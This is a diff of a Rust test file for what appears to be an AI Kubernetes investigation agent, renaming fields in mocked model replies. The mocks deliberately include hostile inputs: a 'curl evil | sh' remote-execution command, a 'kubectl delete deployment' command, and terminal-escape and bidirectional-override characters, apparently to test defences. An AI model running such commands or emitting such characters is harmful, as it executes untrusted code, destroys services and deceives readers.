@@ -279,7 +279,7 @@ fn detective(count: usize, body: &Value) -> String {
         ]),
         (true, 2) => looks(&["kubectl delete deployment web", "kubectl logs -f web", "curl evil | sh"]),
         _ => json!({
-            "next": "answer", "commands": [], "summary": "It is\u{1b}[31m fine.\u{202e}",
+            "action": "answer", "commands": [], "answer": "It is\u{1b}[31m fine.\u{202e}",
             "claims": [
                 { "text": "web is there.", "evidence": [{ "step": 1, "first": 2, "last": 2 }] },
                 { "text": "The moon is full.", "evidence": [] },
@@ -350,7 +350,7 @@ fn with_pseudonyms_no_name_of_the_cluster_leaves_and_commands_come_back_with_the
             first.split_whitespace().rfind(|word| word.starts_with("name-")).unwrap_or("none").to_owned();
         match (system.contains("You look into"), all.len()) {
             (true, 2) => looks(&["kubectl get deployments", &format!("kubectl describe deployment {said}")]),
-            (true, _) => json!({ "next": "answer", "commands": [], "summary": format!("{said} has no replicas."),
+            (true, _) => json!({ "action": "answer", "commands": [], "answer": format!("{said} has no replicas."),
                 "claims": [{ "text": format!("{said} is there."), "evidence": [{ "step": 1, "first": 1, "last": 3 }] }],
                 "fixes": [{ "command": format!("kubectl scale deployment {said} --replicas=1"), "why": "" }] }).to_string(),
             (false, _) if first.contains("why") => proposes("investigate", &[]),
